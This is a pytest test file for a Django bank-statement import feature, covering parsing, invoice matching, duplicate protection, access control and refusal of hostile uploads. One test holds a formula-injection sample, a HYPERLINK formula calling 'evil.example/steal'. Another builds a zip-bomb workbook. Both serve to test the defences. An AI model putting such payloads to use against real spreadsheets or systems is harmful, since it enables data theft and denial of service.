"""Bank statements at /staff/finance/import/: a CSV or XLSX export is read (BOM, GBK, Excel dates,
"¥1,234.50"), each credit line is proposed for an invoice or a company, finance staff confirm, and
each line is recorded once however often the statement is imported. Hostile files are refused."""

from __future__ import annotations

import datetime as dt
import io
import re
import time
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, reset_queries
from django.test.utils import CaptureQueriesContext
from openpyxl import Workbook

from residents.choices import PaymentSource
from residents.exceptions import StatementUnreadable
from residents.models import Invoice, Payment, StatementImport
from residents.statements import statement_read
from tests.personas import staff_in_role
from tests.residents.conftest import signed_in
from tests.residents.payments_setup import MONTH, billed, leased_and_billed
from tests.tenants.factories import CompanyFactory

pytestmark = pytest.mark.django_db

HELIX_JAN, NORDIC_JAN, AURORA_JAN = 13020, 6510, 3906


@pytest.fixture
def invoiced(campus, resident_company, other_company):
    """Helix owes ICW-2026-000001 (13,020), Nordic ICW-2026-000002 (6,510), Aurora ICW-2026-000003 (3,906)."""
    billed(campus)
    leased_and_billed(resident_company, 1)
    leased_and_billed(other_company, 1, area="50")
    aurora = CompanyFactory(campus=campus, name="Aurora Cell")
    leased_and_billed(aurora, 1, area="30")
    assert [i.total for i in Invoice.objects.order_by("number")] == [HELIX_JAN, NORDIC_JAN, AURORA_JAN]
    return campus


def csv_upload(text: str, encoding: str = "utf-8-sig", name: str = "statement.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode(encoding), content_type="text/csv")


def xlsx_upload(rows: list[list], name: str = "statement.xlsx") -> SimpleUploadedFile:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


ENGLISH = (
    "Date,Description,Credit,Debit,Counterparty,Counterparty Account\n"
    '2026-02-03,Rent ICW-2026-000001,"¥13,020.00",,Helix Therapeutics Ltd,6222 0001\n'
    '2026-02-03,icw 2026 000002 part,"5,000.00",,Nordic Biologics,6222 0002\n'
    "2026-02-04,Transfer,3906.00,,A. Person,6222 0003\n"
    "2026-02-04,Unknown,777.00,,Somebody Else,6222 0004\n"
    "2026-02-05,Bank fee,,25.00,,\n"
    "2026-02-05,Service charge,100.00,,helix therapeutics,6222 0001\n"
)


def upload(client, campus, file) -> StatementImport:
    response = client.post("/staff/finance/import/", {"campus": campus.pk, "file": file})
    assert response.status_code == 302, response.content.decode()[:3000]
    statement = StatementImport.objects.latest("pk")
    assert response["Location"] == f"/staff/finance/import/{statement.pk}/"
    return statement


def preview(client, statement):
    response = client.get(f"/staff/finance/import/{statement.pk}/")
    assert response.status_code == 200
    return response


def proposals(client, statement) -> list[tuple]:
    return [
        (p.amount, p.status, p.company.name if p.company else None, [i.display_number for i in p.invoices])
        for p in preview(client, statement).context["proposals"]
    ]


def apply(client, statement, lines: dict[int, object]):
    data = {"line": [str(index) for index in lines]}
    data.update({f"company-{index}": str(getattr(company, "pk", "")) for index, company in lines.items()})
    return client.post(f"/staff/finance/import/{statement.pk}/apply/", data, follow=True)


def open_amounts() -> list[Decimal]:
    return list(Invoice.objects.with_settlement().order_by("number").values_list("open_amount", flat=True))


# --- Reading and proposing -----------------------------------------------------------------------


def test_a_csv_with_a_byte_order_mark_is_proposed_line_by_line(invoiced, finance):
    statement = upload(finance.client, invoiced, csv_upload(ENGLISH))

    assert proposals(finance.client, statement) == [
        (Decimal("13020.00"), "matched", "Helix Therapeutics", ["ICW-2026-000001"]),
        (Decimal("5000.00"), "partial", "Nordic Biologics", ["ICW-2026-000002"]),
        (Decimal("3906.00"), "suggested", "Aurora Cell", ["ICW-2026-000003"]),
        (Decimal("777.00"), "unmatched", None, []),
        (Decimal("100.00"), "suggested", "Helix Therapeutics", []),
    ]
    shown = preview(finance.client, statement).content.decode()
    assert "1 debit line left aside" in shown
    assert shown.count('type="checkbox"') == 5 and shown.count(" checked>") == 2  # the numbered lines


def test_a_gbk_csv_of_a_chinese_bank_is_read_below_its_account_details(invoiced, finance):
    text = (
        "账号：1234567890123\n户名：创新园区管理有限公司\n\n"
        "交易日期,摘要,附言,借方金额,贷方金额,对方户名,对方账号\n"
        '2026/02/03,转账,ICW-2026-000001 房租,,"13,020.00",赫利克斯治疗,6222000100\n'
        '20260204,转账,二月房租,,"￥8,000.00",北欧生物,6222000200\n'
        "2026年2月5日,手续费,,15.00,,,\n"
        '合计,,,15.00,"21,020.00",,\n'
    )
    statement = upload(finance.client, invoiced, csv_upload(text, encoding="gbk"))

    lines = statement.lines
    assert [(line["date"], line["amount"], line["payer"]) for line in lines] == [
        ("2026-02-03", "13020.00", "赫利克斯治疗"),
        ("2026-02-04", "8000.00", "北欧生物"),
    ]
    assert lines[0]["reference"] == "转账 · ICW-2026-000001 房租"
    assert statement.debits == 1
    assert statement.problems == []  # the totals row is no transaction
    assert [p[1] for p in proposals(finance.client, statement)] == ["matched", "unmatched"]


def test_an_xlsx_statement_reads_excel_dates_and_keeps_a_formula_as_text(invoiced, finance):
    formula = '=HYPERLINK("http://evil.example/steal","ICW-2026-000001")'
    serial = (dt.date(2026, 2, 4) - dt.date(1899, 12, 30)).days
    statement = upload(
        finance.client,
        invoiced,
        xlsx_upload(
            [
                ["Bank of Somewhere", None, None, None, None],
                ["交易日期", "交易金额", "借贷标志", "对方户名", "附言"],
                [dt.datetime(2026, 2, 3, 10, 15), 13020, "贷", "Helix Therapeutics", formula],
                [serial, "6,510.00", "C", "Nordic Biologics", "ICW-2026-000002"],
                [dt.date(2026, 2, 5), 99.5, "借", "Fees", ""],
            ]
        ),
    )

    assert [(line["date"], line["amount"], line["reference"]) for line in statement.lines] == [
        ("2026-02-03", "13020.00", formula),
        ("2026-02-04", "6510.00", "ICW-2026-000002"),
    ]
    assert statement.debits == 1
    response = apply(finance.client, statement, {0: None, 1: None})
    assert "Choose the company" in response.content.decode()  # no company chosen: nothing recorded
    apply(finance.client, statement, {0: invoiced.companies.get(name="Helix Therapeutics")})
    assert Payment.objects.get().reference == formula[:140]


# --- Applying ------------------------------------------------------------------------------------


def test_confirmed_lines_are_recorded_once_however_often_the_statement_is_applied_or_imported(
    invoiced, finance, resident_company, other_company
):
    statement = upload(finance.client, invoiced, csv_upload(ENGLISH))
    unknown = CompanyFactory(campus=invoiced, name="Elsewhere Bio")  # never billed: not offered
    chosen = {0: resident_company, 1: other_company, 3: other_company, 4: unknown}

    response = apply(finance.client, statement, chosen)

    text = response.content.decode()
    assert "3 payments recorded." in text and "Row 7: Choose the company that paid." in text
    payments = Payment.objects.order_by("pk")
    assert [(p.company.name, p.amount, p.source, p.received_on) for p in payments] == [
        ("Helix Therapeutics", Decimal("13020.00"), PaymentSource.STATEMENT, dt.date(2026, 2, 3)),
        ("Nordic Biologics", Decimal("5000.00"), PaymentSource.STATEMENT, dt.date(2026, 2, 3)),
        ("Nordic Biologics", Decimal("777.00"), PaymentSource.STATEMENT, dt.date(2026, 2, 4)),
    ]
    assert payments[0].recorded_by == finance.user and payments[0].note == "Helix Therapeutics Ltd · 6222 0001"
    assert open_amounts() == [0, NORDIC_JAN - 5777, AURORA_JAN]

    again = apply(finance.client, statement, chosen)
    assert "3 lines were already imported" in again.content.decode()
    second = upload(finance.client, invoiced, csv_upload(ENGLISH, name="same-again.csv"))
    statuses = [p[1] for p in proposals(finance.client, second)]
    assert statuses == ["imported", "imported", "suggested", "imported", "suggested"]
    assert "Already imported" in preview(finance.client, second).content.decode()
    apply(finance.client, second, {0: resident_company, 1: other_company, 3: other_company})
    assert Payment.objects.count() == 3


def test_identical_lines_are_told_apart_by_their_order_in_the_statement(invoiced, finance, resident_company):
    header, line = "Date,Memo,Credit,Debit,Payer,Account\n", "2026-02-03,ICW-2026-000001,500.00,,Helix,1\n"
    first = upload(finance.client, invoiced, csv_upload(header + line * 2))
    apply(finance.client, first, {0: resident_company, 1: resident_company})
    assert Payment.objects.count() == 2

    # A later export of the same days holds the two lines again, and a third paid later that day.
    later = upload(finance.client, invoiced, csv_upload(header + line * 3, name="later.csv"))
    assert [p[1] for p in proposals(finance.client, later)] == ["imported", "imported", "partial"]
    apply(finance.client, later, {0: resident_company, 1: resident_company, 2: resident_company})

    assert Payment.objects.count() == 3
    assert open_amounts()[0] == MONTH - 1500


def test_a_line_is_recorded_only_for_a_company_of_the_statements_campus(invoiced, finance, resident_company):
    from tests.campus.factories import CampusFactory

    far = CompanyFactory(campus=CampusFactory(), name="Far Away")
    statement = upload(finance.client, invoiced, csv_upload(ENGLISH))

    response = finance.client.post(
        f"/staff/finance/import/{statement.pk}/apply/", {"line": ["3"], "company-3": str(far.pk)}, follow=True
    )

    assert "Choose the company that paid." in response.content.decode()
    assert not Payment.objects.exists()


@pytest.mark.parametrize("line", ["²", "٣", "9" * 5000, "-1", " 0", "0x1", ""])
def test_a_line_number_that_is_no_line_of_the_statement_records_nothing(invoiced, finance, resident_company, line):
    """The ticked lines come back from the browser: anything but a line's own number is ignored."""
    statement = upload(finance.client, invoiced, csv_upload(ENGLISH))
    companies = {f"company-{name}": resident_company.pk for name in [*range(len(statement.lines)), line[:10]]}

    response = finance.client.post(f"/staff/finance/import/{statement.pk}/apply/", {"line": [line], **companies})

    assert response.status_code == 302 and response["Location"] == f"/staff/finance/import/{statement.pk}/"
    assert not Payment.objects.exists()


def test_a_statement_opens_only_for_whoever_uploaded_it(invoiced, finance, resident_company):
    statement = upload(finance.client, invoiced, csv_upload(ENGLISH))
    colleague = signed_in(staff_in_role("finance", "colleague"))

    assert colleague.client.get(f"/staff/finance/import/{statement.pk}/").status_code == 404
    posted = colleague.client.post(
        f"/staff/finance/import/{statement.pk}/apply/", {"line": ["0"], "company-0": resident_company.pk}
    )
    assert posted.status_code == 404 and not Payment.objects.exists()
    front_desk = signed_in(staff_in_role("front_desk"))
    assert front_desk.client.get(f"/staff/finance/import/{statement.pk}/").status_code == 403


def test_the_preview_reads_in_a_constant_number_of_queries(invoiced, finance, django_assert_max_num_queries):
    few = upload(finance.client, invoiced, csv_upload(ENGLISH))
    reset_queries()  # the log is read lazily and emptied by each request: count at once
    with CaptureQueriesContext(connection) as counted:
        preview(finance.client, few)
    queries = len(counted)
    rows = "".join(f"2026-02-{day:02d},ICW-2026-00000{day % 3 + 1} x,{day}.00,,P{day},{day}\n" for day in range(1, 28))
    many = upload(finance.client, invoiced, csv_upload(ENGLISH + rows))

    assert queries > 5
    with django_assert_max_num_queries(queries):
        assert len(preview(finance.client, many).context["proposals"]) == 32


def test_a_long_statement_is_previewed_a_page_at_a_time(invoiced, finance, resident_company):
    """Each line offers every billed company: 5,000 lines at once made a page of tens of megabytes
    that took many seconds to write. The preview shows 200 lines a page; counts are the whole file's."""
    for index in range(20):
        leased_and_billed(CompanyFactory(campus=invoiced, name=f"Company {index:02d}"), 1, area="10")
    lines = "".join(f"2026-02-03,Transfer {row},{row}.00,,Payer {row},{row}\n" for row in range(1, 1001))
    statement = upload(finance.client, invoiced, csv_upload("Date,Memo,Credit,Debit,Payer,Account\n" + lines))

    first = preview(finance.client, statement)
    last = finance.client.get(f"/staff/finance/import/{statement.pk}/", {"page": "5"})

    assert len(first.content) < 600_000
    assert "1000 credit lines" in first.content.decode() and "Page 1 of 5" in first.content.decode()
    assert [len(re.findall(r'name="line" value="', page.content.decode())) for page in (first, last)] == [200, 200]
    assert 'value="999"' in last.content.decode()
    applied = finance.client.post(
        f"/staff/finance/import/{statement.pk}/apply/",
        {"line": ["999"], "company-999": resident_company.pk, "page": "5"},
    )
    assert applied["Location"] == f"/staff/finance/import/{statement.pk}/?page=5"
    assert Payment.objects.get().amount == Decimal("1000.00")


# --- Hostile and broken files -----------------------------------------------------------------


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (70 * 1024 * 1024))
    return buffer.getvalue()


def not_a_workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hello")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (bytes(range(256)) * 40, "not a CSV or Excel"),
        (b"a" * (10 * 1024 * 1024), "larger than 5 MB"),
        (b"", "empty"),
        (b"PK\x03\x04 broken", "damaged"),
        (not_a_workbook(), "not a CSV or Excel"),
        (zip_bomb(), "unpacks to far more"),
        (b"Name,Value\nx,1\n", "No header row with a date and an amount"),
        (("Date,Amount\n" + "2026-02-03,1.00\n" * 5001).encode(), "more than 5000 rows"),
        (b'Date,Amount\n2026-02-03,"1.00\n' + b"x" * 200_000, "malformed"),
    ],
    ids=["binary", "10-MB", "empty", "broken-zip", "zip-not-xlsx", "zip-bomb", "no-header", "rows", "field"],
)
def test_a_hostile_or_broken_file_is_refused_with_a_clear_message(invoiced, finance, content, message):
    response = finance.client.post(
        "/staff/finance/import/", {"campus": invoiced.pk, "file": SimpleUploadedFile("statement.csv", content)}
    )

    assert response.status_code == 400
    errors = " ".join(str(error) for error in response.context["form"].errors.get("file", []))
    assert message in errors.replace(",", "")
    assert not StatementImport.objects.exists()


# --- The reader, line by line ------------------------------------------------------------------


def test_a_statement_of_a_million_columns_is_read_in_a_moment(invoiced, finance):
    """Columns past the 60 a statement may have are never looked at (it took seconds of CPU)."""
    row = b"2026-02-03,ICW-2026-000001,1.00" + b"," * 1_200_000 + b"\n"
    content = b"Date,Reference,Credit\n" + row * 4
    started = time.process_time()

    statement = upload(finance.client, invoiced, SimpleUploadedFile("wide.csv", content))

    assert time.process_time() - started < 2.5
    assert [line["amount"] for line in statement.lines] == ["1.00"] * 4


@pytest.mark.parametrize(
    ("cell", "amount"),
    [
        ("1,234.50", "1234.50"),
        ("¥1,234.50", "1234.50"),
        ("￥ 1 234.5", "1234.50"),
        ("RMB 88", "88.00"),
        ("(1,234.50)", None),
        ("1234.50-", None),
        ("-20", None),
    ],
)
def test_amounts_are_read_as_banks_write_them(cell, amount):
    statement = statement_read(f'Date,Amount\n2026-02-03,"{cell}"\n'.encode())

    assert [str(line.amount) for line in statement.lines] == ([amount] if amount else [])
    assert statement.debits == (0 if amount else 1)


@pytest.mark.parametrize(
    "cell", ["2026-02-03", "2026/2/3", "2026.02.03", "20260203", "2026年2月3日", "03.02.2026", "2026-02-03 09:30:00"]
)
def test_dates_are_read_year_first_or_in_chinese(cell):
    (line,) = statement_read(f"交易时间,收入金额\n{cell},1\n".encode()).lines

    assert line.date == dt.date(2026, 2, 3)


def test_rows_that_cannot_be_read_are_listed_with_the_reason_and_the_rest_is_read():
    statement = statement_read(
        b"Date,Amount\n2026-02-30,1\n2026-02-03,abc\n2026-02-03,1.234\n03/02/2026,5\n2026-02-03,7\n"
    )

    assert [str(line.amount) for line in statement.lines] == ["7.00"]
    assert [(row, re.sub(r"“.*”", "…", problem)) for row, problem in statement.problems] == [
        (2, "the date … is not a date (write it as 2026-03-05)"),
        (3, "the amount … is not a number"),
        (4, "the amount 1.234 has more than two decimals"),
        (5, "the date … is not a date (write it as 2026-03-05)"),
    ]


def test_a_semicolon_separated_export_with_a_credit_debit_marker_is_read():
    statement = statement_read(b"Booking date;Amount;Dr/Cr;Remarks\n2026-02-03;12.50;CR;x\n2026-02-04;3.00;DR;fee\n")

    assert [(line.amount, line.reference) for line in statement.lines] == [(Decimal("12.50"), "x")]
    assert statement.debits == 1


def test_a_file_that_is_nothing_of_the_sort_is_refused():
    with pytest.raises(StatementUnreadable):
        statement_read(b"\x89PNG\r\n\x1a\n" + bytes(100))
